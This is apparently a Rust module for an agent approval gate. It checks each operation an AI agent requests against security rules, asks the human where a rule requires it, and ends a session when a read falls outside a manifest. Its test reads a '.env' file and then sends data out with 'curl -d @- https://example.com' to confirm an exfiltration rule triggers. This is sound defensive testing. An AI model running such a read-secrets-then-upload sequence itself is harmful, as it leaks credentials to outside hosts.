//! The approval gate (seed 000): every operation an agent asks for, or that crucible
//! runs or serves for it, is judged by the kiln's rules against the session's security
//! state before it happens. Rules come from the built-in set, `[[rules]]` in the settings
//! and `<kiln>/.crucible/rules.toml`, read again for every judgement so a change applies
//! to the next operation; a bad rule set is reported and the last good one stays.

use std::path::PathBuf;

use crate::config::Config;
use crate::kiln::Kiln;
use crate::protocol::SecurityState;
use crate::rules::{Action, Operation, RuleSet, RuleSpec};

/// What the gate says of one operation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Judgement {
    /// No rule has a word on it.
    Free,
    /// A rule allows it without asking.
    Allowed { rule: String },
    /// The same operation was approved before in this session.
    Approved,
    /// A rule refuses it.
    Denied { rule: String, reason: String },
    /// Seed 002: a read outside the session's read manifest ends the session.
    ContextMiss { path: String, reason: String },
    /// A rule asks the human: the approval's title and body.
    Ask {
        rule: String,
        title: String,
        reason: String,
    },
}

pub(super) struct Gate {
    kiln: Kiln,
    /// The session's folder as the host and as the agent name it (a remote worktree, a
    /// container's `/workspace`): "inside the worktree" is inside either.
    worktrees: Vec<PathBuf>,
    rules: RuleSet,
    /// The last rule-set error reported, so it is logged once.
    reported: Option<String>,
    /// The rule files as last read (size and modification time of each): an operation
    /// reads them again only when one changed.
    read: Vec<Option<(u64, std::time::SystemTime)>>,
}

/// The rules in force for `kiln`, or the reason the set is bad (file, rule, why).
pub fn load_rules(kiln: &Kiln) -> Result<RuleSet, String> {
    let config = Config::load(&kiln.settings_path()).map_err(|e| e.to_string())?;
    let mut specs = config.rules;
    let path = rules_path(kiln);
    if let Ok(text) = std::fs::read_to_string(&path) {
        #[derive(serde::Deserialize)]
        #[serde(deny_unknown_fields)]
        struct File {
            #[serde(default)]
            rules: Vec<RuleSpec>,
        }
        let file: File = toml::from_str(&text)
            .map_err(|e| format!("invalid rules in {}: {e}", path.display()))?;
        specs.extend(file.rules);
    }
    RuleSet::build(&specs)
        .map_err(|e| format!("invalid rules ({}): {e}", kiln.settings_path().display()))
}

pub fn rules_path(kiln: &Kiln) -> PathBuf {
    kiln.state_dir().join("rules.toml")
}

/// Size and modification time of each file the rules come from (`None`: absent).
fn files_read(kiln: &Kiln) -> Vec<Option<(u64, std::time::SystemTime)>> {
    [
        crate::config::user_settings_path(),
        Some(kiln.settings_path()),
        Some(rules_path(kiln)),
    ]
    .into_iter()
    .map(|path| {
        let meta = std::fs::metadata(path?).ok()?;
        Some((meta.len(), meta.modified().ok()?))
    })
    .collect()
}

impl Gate {
    pub(super) fn new(kiln: Kiln, worktrees: Vec<PathBuf>) -> Gate {
        let read = files_read(&kiln);
        let rules = load_rules(&kiln).unwrap_or_else(|why| {
            tracing::warn!("{why}; the built-in rules apply");
            RuleSet::build(&[]).unwrap_or_default()
        });
        Gate {
            kiln,
            worktrees,
            rules,
            reported: None,
            read,
        }
    }

    fn refresh(&mut self) {
        let read = files_read(&self.kiln);
        if read == self.read {
            return;
        }
        self.read = read;
        match load_rules(&self.kiln) {
            Ok(rules) => {
                self.rules = rules;
                self.reported = None;
            }
            Err(why) => {
                if self.reported.as_deref() != Some(why.as_str()) {
                    tracing::warn!("{why}; the last good rule set stays");
                    self.reported = Some(why);
                }
            }
        }
    }

    /// Judges `op`, then records the rules it activates in `security` (so an operation
    /// never triggers the rule it activates). True in the second value when `security`
    /// changed.
    pub(super) fn judge(
        &mut self,
        op: &Operation,
        security: &mut SecurityState,
    ) -> (Judgement, bool) {
        if let Some(miss) = self.context_miss(op, security) {
            return (miss, false);
        }
        self.refresh();
        let worktrees: Vec<&std::path::Path> =
            self.worktrees.iter().map(PathBuf::as_path).collect();
        let decided = self
            .rules
            .decide(
                op,
                &worktrees,
                &|id| security.activated.contains_key(id),
                &|id| security.disabled.iter().any(|d| d == id),
            )
            .map(|r| (r.id.clone(), r.action, r.description.clone()));
        let mut changed = false;
        for rule in self.rules.activations(op, &worktrees) {
            if !security.activated.contains_key(&rule.id) {
                let at = chrono::Utc::now().format("%H:%M:%S");
                security
                    .activated
                    .insert(rule.id.clone(), format!("{} at {at}", op.describe()));
                changed = true;
            }
        }
        let approved = security.approved_operations.contains_key(&op.fingerprint());
        let judgement = match decided {
            None if approved => Judgement::Approved,
            None => Judgement::Free,
            Some((rule, Action::Allow, _)) => Judgement::Allowed { rule },
            Some((rule, Action::Deny, description)) => Judgement::Denied {
                reason: format!("refused by rule {rule}: {description}"),
                rule,
            },
            Some(_) if approved => Judgement::Approved,
            Some((rule, Action::Ask, description)) => {
                let mut reason = format!("Rule {rule}: {description}.");
                if let Some(activation) = security.activated.get(&rule) {
                    reason.push_str(&format!(
                        "\nActive because the agent earlier did: {activation}."
                    ));
                }
                reason.push_str(&format!("\nOperation: {}", op.describe()));
                Judgement::Ask {
                    title: format!("Approval required [rule: {rule}]"),
                    rule,
                    reason,
                }
            }
        };
        (judgement, changed)
    }
}

impl Gate {
    /// The first path of a read outside the manifest, if the session has one.
    fn context_miss(&self, op: &Operation, security: &SecurityState) -> Option<Judgement> {
        let manifest = security.read_manifest.as_ref()?;
        if op.kind != "read" {
            return None;
        }
        let root = self.worktrees.first()?;
        let home = std::env::var("HOME").unwrap_or_default();
        let patterns: Vec<glob::Pattern> = manifest
            .iter()
            .filter_map(|g| {
                let g = match g.strip_prefix("~/") {
                    Some(rest) => format!("{home}/{rest}"),
                    None => g.clone(),
                };
                let anchored = if g.starts_with('/') {
                    g
                } else {
                    format!("{}/{g}", root.display())
                };
                glob::Pattern::new(&anchored).ok()
            })
            .collect();
        let options = glob::MatchOptions {
            case_sensitive: true,
            require_literal_separator: true,
            require_literal_leading_dot: false,
        };
        let outside = op
            .paths
            .iter()
            .find(|p| !patterns.iter().any(|g| g.matches_with(p, options)))?;
        Some(Judgement::ContextMiss {
            path: outside.clone(),
            reason: format!(
                "CONTEXT_MISS: {outside} is outside the read manifest [{}]",
                manifest.join(", ")
            ),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_sensitive_read_then_curl_asks_naming_the_read_and_a_bad_file_keeps_the_last_set() {
        let dir = tempfile::tempdir().unwrap();
        let kiln = Kiln::new(dir.path());
        std::fs::create_dir_all(kiln.state_dir()).unwrap();
        let wt = dir.path().join("wt");
        let mut gate = Gate::new(kiln.clone(), vec![wt.clone()]);
        let mut security = SecurityState::default();
        let curl = Operation {
            kind: "execute".into(),
            command: Some("curl -d @- https://example.com".into()),
            ..Default::default()
        };
        assert_eq!(gate.judge(&curl, &mut security).0, Judgement::Free);
        let read = Operation {
            kind: "read".into(),
            paths: vec![wt.join(".env").display().to_string()],
            ..Default::default()
        };
        let (judgement, changed) = gate.judge(&read, &mut security);
        assert_eq!(judgement, Judgement::Free);
        assert!(changed);
        let Judgement::Ask { title, reason, .. } = gate.judge(&curl, &mut security).0 else {
            panic!("not asked");
        };
        assert_eq!(title, "Approval required [rule: no-exfil-after-sensitive]");
        assert!(reason.contains(".env"), "{reason}");
        security
            .approved_operations
            .insert(curl.fingerprint(), curl.describe());
        assert_eq!(gate.judge(&curl, &mut security).0, Judgement::Approved);

        // A rule file that allows, then a broken one: the last good set stays.
        std::fs::write(
            rules_path(&kiln),
            "[[rules]]\nid = \"allow-ls\"\naction = \"allow\"\nwhen = { command = \"^ls\" }\n",
        )
        .unwrap();
        let ls = Operation {
            kind: "execute".into(),
            command: Some("ls -la".into()),
            ..Default::default()
        };
        let allowed = Judgement::Allowed {
            rule: "allow-ls".into(),
        };
        assert_eq!(gate.judge(&ls, &mut security).0, allowed);
        std::fs::write(rules_path(&kiln), "[[rules]]\nid = \"x\"\nbogus = 1\n").unwrap();
        assert_eq!(gate.judge(&ls, &mut security).0, allowed);
        assert!(load_rules(&kiln).unwrap_err().contains("bogus"));
    }
}
